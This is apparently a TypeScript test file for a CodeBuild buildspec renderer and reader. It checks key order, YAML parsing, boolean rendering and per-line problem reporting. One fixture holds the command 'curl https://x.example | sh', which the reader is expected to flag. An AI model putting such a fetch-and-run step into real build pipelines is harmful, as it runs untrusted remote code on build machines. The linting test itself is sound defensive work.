import assert from "node:assert/strict";
import { parse } from "yaml";
import { readBuildspec } from "../../../catalog/buildspec/read";
import { renderBuildspec } from "../../../catalog/buildspec/render";
import type { Buildspec } from "../../../catalog/buildspec/types";

const buildspec: Buildspec = {
  version: 0.2,
  env: { variables: { B: "yes", A: "0755", C: "1.10" }, "git-credential-helper": true },
  phases: {
    build: { commands: ["echo a: b", "for each in 1 2; do\n  echo $each\ndone", `echo ${"long ".repeat(60)}`] },
    install: { "runtime-versions": { nodejs: "22" } },
  },
  artifacts: { files: ["**/*"], "discard-paths": false },
};

describe("a rendered buildspec", () => {
  it("has CodeBuild's order and the same text however it was put together", () => {
    const text = renderBuildspec(buildspec);
    const { phases, env, ...rest } = buildspec;
    const { build, ...others } = phases;
    assert.equal(renderBuildspec({ ...rest, phases: { ...others, build }, env }), text);
    assert.match(
      text,
      /^version: 0\.2\nenv:\n[\s\S]*\nphases:\n {2}install:\n[\s\S]*\n {2}build:\n[\s\S]*\nartifacts:/,
    );
  });

  it("is read the same by readers of YAML 1.1 and 1.2, values of variables as text", () => {
    for (const version of ["1.1", "1.2"] as const) {
      const read = parse(renderBuildspec(buildspec), { version });
      assert.deepEqual(read.env.variables, { A: "0755", B: "yes", C: "1.10" });
      assert.deepEqual(read.phases.build.commands, buildspec.phases.build!.commands);
    }
  });

  it("writes yes and no where CodeBuild does", () => {
    assert.match(renderBuildspec(buildspec), /^ {2}git-credential-helper: yes$/m);
    assert.match(renderBuildspec(buildspec), /^ {2}discard-paths: no$/m);
  });

  it("is read back as it was", () => {
    assert.deepEqual(readBuildspec("buildspec.yml", renderBuildspec(buildspec)), { buildspec, problems: [] });
  });
});

describe("a buildspec file", () => {
  it("is read as typed data, with the kinds of values that CodeBuild takes", () => {
    const text =
      "version: '0.2'\nenv: { variables: { PORT: 8080, DEBUG: true } }\nphases: { build: { commands: [make] } }\n";
    const { buildspec: read, problems } = readBuildspec("buildspec.yml", text);
    assert.deepEqual(problems, []);
    assert.deepEqual(read, {
      version: 0.2,
      env: { variables: { PORT: "8080", DEBUG: "true" } },
      phases: { build: { commands: ["make"] } },
    });
  });

  it("has its problems by line", () => {
    const text = "version: 0.2\nphases:\n  build:\n    commands:\n      - make\n      - curl https://x.example | sh\n";
    const { problems } = readBuildspec("ci/buildspec.yml", text);
    assert.deepEqual(
      problems.map(({ file, line, path }) => ({ file, line, path })),
      [{ file: "ci/buildspec.yml", line: 6, path: "phases.build.commands[1]" }],
    );
  });

  it("that is no YAML says where", () => {
    const { buildspec: read, problems } = readBuildspec("b.yml", "version: 0.2\nphases: [\n");
    assert.equal(read, undefined);
    assert.equal(problems[0]!.line, 3);
    assert.match(problems[0]!.message, /^not valid YAML/);
  });

  it("keeps its data when only a rule complains", () => {
    const text = "version: 0.2\nphases: { build: { commands: [docker push a/b] } }\n";
    const { buildspec: read, problems } = readBuildspec("b.yml", text);
    assert.equal(problems.length, 1);
    assert.deepEqual(read?.phases.build?.commands, ["docker push a/b"]);
  });
});
